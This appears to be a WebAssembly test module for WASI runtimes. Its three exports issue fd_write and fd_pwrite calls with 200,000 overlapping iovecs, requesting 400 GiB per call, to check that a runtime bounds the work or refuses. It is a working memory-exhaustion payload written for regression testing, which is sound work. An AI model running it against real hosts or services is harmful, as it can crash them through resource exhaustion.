;; Attack: fd_write / fd_pwrite gather amplification, 400 GiB per call.
;;
;; 32 pages (2 MiB) of memory; the first 1.6 MB hold 200 000 ciovecs, each claiming all
;; 2 MiB (buf 0, len 2097152): one call asks to write 200 000 * 2 MiB = 400 GiB. A runtime
;; that gathers every iovec into one host buffer before writing grows until the machine
;; kills it. The fix must bound the work (stop at an I/O cap, short write) or refuse.
;;
;; Exports, each returning the call's errno (0 on success), printed by the CLI:
;; - `to_stdout`: fd_write to fd 1.
;; - `pwrite_file`: creates `out.bin` in the preopen (fd 3, `--dir HOST::/`) and
;;   fd_pwrite's into it at offset 0 (returns 1000 + errno if path_open fails).
;; - `pwrite_stdout`: fd_pwrite on fd 1, which is not seekable: a clean error is fine, but
;;   the 400 GiB gather must not happen before the descriptor is even checked.
(module
  (import "wasi_snapshot_preview1" "fd_write"
    (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_pwrite"
    (func $fd_pwrite (param i32 i32 i32 i64 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_open"
    (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (memory (export "memory") 32)
  ;; Scratch past the iovec array (which ends at 1 600 000).
  (data (i32.const 1900000) "out.bin")

  (func $iovecs
    (local $i i32)
    (loop $fill
      (i32.store (i32.mul (local.get $i) (i32.const 8)) (i32.const 0))
      (i32.store offset=4 (i32.mul (local.get $i) (i32.const 8)) (i32.const 2097152))
      (local.set $i (i32.add (local.get $i) (i32.const 1)))
      (br_if $fill (i32.lt_u (local.get $i) (i32.const 200000)))))

  (func (export "to_stdout") (result i32)
    (call $iovecs)
    (call $fd_write (i32.const 1) (i32.const 0) (i32.const 200000) (i32.const 1950000)))

  (func (export "pwrite_file") (result i32)
    (local $e i32)
    (call $iovecs)
    ;; O_CREAT | O_TRUNC, rights fd_write (1 << 6) and fd_seek (1 << 2) and more.
    (local.set $e
      (call $path_open (i32.const 3) (i32.const 0) (i32.const 1900000) (i32.const 7)
        (i32.const 9) (i64.const 0x1fffffff) (i64.const 0) (i32.const 0)
        (i32.const 1950000)))
    (if (local.get $e) (then (return (i32.add (i32.const 1000) (local.get $e)))))
    (call $fd_pwrite (i32.load (i32.const 1950000)) (i32.const 0) (i32.const 200000)
      (i64.const 0) (i32.const 1960000)))

  (func (export "pwrite_stdout") (result i32)
    (call $iovecs)
    (call $fd_pwrite (i32.const 1) (i32.const 0) (i32.const 200000) (i64.const 0)
      (i32.const 1960000))))
